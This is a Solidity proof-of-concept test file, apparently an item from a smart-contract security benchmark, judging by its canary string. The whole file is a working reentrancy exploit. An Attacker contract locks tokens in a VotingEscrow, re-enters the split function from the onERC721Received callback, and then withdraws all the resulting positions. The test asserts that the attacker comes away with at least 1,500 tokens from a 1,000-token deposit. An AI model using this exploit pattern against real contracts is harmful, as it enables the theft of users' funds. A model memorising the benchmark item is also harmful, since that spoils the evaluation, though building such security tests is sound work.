// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";

contract Attacker {
    VotingEscrow private escrow;
    uint256[] private ids;
    bool private within;

    function begin(TideToken token, VotingEscrow escrow_) external {
        escrow = escrow_;
        token.approve(address(escrow), type(uint256).max);
        escrow.createLock(1_000e18, 1 weeks, address(this));
        within = true;
        escrow.split(ids[0], 800e18);
    }

    function end() external {
        for (uint256 i = 0; i < ids.length; i++) {
            escrow.withdraw(ids[i]);
        }
    }

    function onERC721Received(address, address, uint256 id, bytes calldata) external returns (bytes4) {
        ids.push(id);
        if (within) {
            within = false;
            try escrow.split(ids[0], 800e18) {} catch {}
        }
        return this.onERC721Received.selector;
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        tide.transfer(address(other), 1_000e18);
    }

    function exploit() public {
        other.begin(tide, escrow);
        vm.warp(block.timestamp + EPOCH);
        other.end();
    }

    function test_Exploit() public {
        exploit();
        require(tide.balanceOf(address(other)) >= 1_500e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
